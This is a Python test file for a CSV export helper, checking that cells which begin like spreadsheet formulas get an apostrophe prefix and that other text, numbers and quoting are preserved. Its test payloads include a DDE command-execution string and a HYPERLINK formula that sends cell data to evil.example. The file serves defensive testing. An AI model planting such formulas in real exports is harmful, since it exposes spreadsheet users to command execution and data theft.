"""Cells of CSV files: no spreadsheet runs what somebody stored (OUT-4)."""

import csv
import io

import pytest

from coursewire.text.spreadsheets import cell, document

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r")
REST = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Click")', "SUM(1,2)*9",
    "", "\n=1+1", "'=1", ",=1+1",
)  # fmt: skip
PAYLOADS = [beginning + rest for beginning in BEGINNINGS for rest in REST]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_a_text_and_nothing_of_it_is_lost(payload: str) -> None:
    assert len(PAYLOADS) >= 40
    assert cell(payload) == f"'{payload}"
    (read,) = csv.reader(io.StringIO(document([[payload, "b"]]), newline=""))
    assert read == [f"'{payload}", "b"]


@pytest.mark.parametrize("plain", ["Red", "", "'", "a=1", " =1", "é", "1", "x\n=1", '"=1"'])
def test_other_texts_stay_as_they_are(plain: str) -> None:
    assert cell(plain) == plain


@pytest.mark.parametrize(("number", "written"), [(-5, "-5"), (0, "0"), (-1.5, "-1.5")])
def test_numbers_stay_numbers(number: float, written: str) -> None:
    assert cell(number) == written


def test_rows_stand_under_each_other() -> None:
    assert document([["id", "name"], [1, 'a "b", c'], [2, None]]) == (
        'id,name\r\n1,"a ""b"", c"\r\n2,\r\n'
    )
